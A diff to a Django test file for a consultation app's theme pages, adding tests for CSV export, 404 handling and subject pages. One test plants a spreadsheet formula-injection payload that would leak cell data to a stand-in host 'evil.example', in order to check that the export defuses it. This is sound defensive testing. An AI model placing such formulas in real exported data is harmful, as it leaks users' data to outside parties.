@@ -1,6 +1,9 @@
 """The analysts' theme pages and the public "You said, we did": who may do what, what a
 reviewer sees, errors as GOV.UK error summaries, and a fixed number of queries per page."""
 
+import csv
+import io
+
 import pytest
 from django.urls import reverse
 
@@ -152,3 +155,33 @@ def test_you_said_we_did_is_cached_for_strangers_and_a_sign_off_shows_at_once(cl
     client.force_login(theme_analyst)
     client.post(reverse("themes:theme_action", args=[themes[0].pk, "sign-off"]))
     assert themes[0].label in stranger.get(reverse("themes:you_said_we_did")).content.decode()
+
+
+FORMULA = '=HYPERLINK("http://evil.example/?leak="&A2,"Open")'
+
+
+def test_the_comment_themes_export_defuses_a_label_a_spreadsheet_would_run(client, theme_analyst, built):
+    _, themes = built
+    services.theme_rename(theme_id=themes[0].pk, label=FORMULA, person=theme_analyst)
+    client.force_login(grant(theme_analyst, ("analysis", "export_data")))
+    response = client.get(reverse("themes:comment_themes_csv"))
+    body = b"".join(response.streaming_content) if response.streaming else response.content
+    rows = list(csv.reader(io.StringIO(body.decode("utf-8-sig"))))
+    assert response.status_code == 200 and rows[0] == ["comment_id", "theme_id", "theme_label"]
+    labels = {row[2] for row in rows[1:]}
+    assert "'" + FORMULA in labels
+    assert not any(cell.startswith(("=", "+", "-", "@")) for row in rows for cell in row)
+
+
+@pytest.mark.parametrize("slug", ["focus_area-99999999999999999999", "focus_area-99999999", "idea-0", "idea-99999999",
+                                  "delivery_option-99999999", "focus_area-0{area}"])
+def test_a_subject_that_does_not_exist_is_a_govuk_404(client, viewer, area, slug):
+    client.force_login(viewer)
+    response = client.get(reverse("themes:subject", args=[slug.format(area=area.pk)]))
+    assert response.status_code == 404 and "Page not found" in response.content.decode()
+
+
+def test_a_subject_that_exists_without_themes_yet_is_a_page(client, viewer, area):
+    client.force_login(viewer)
+    assert client.get(reverse("themes:subject", args=[f"focus_area-{area.pk}"])).status_code == 200
+    assert client.get(reverse("themes:subject", args=["all"])).status_code == 200
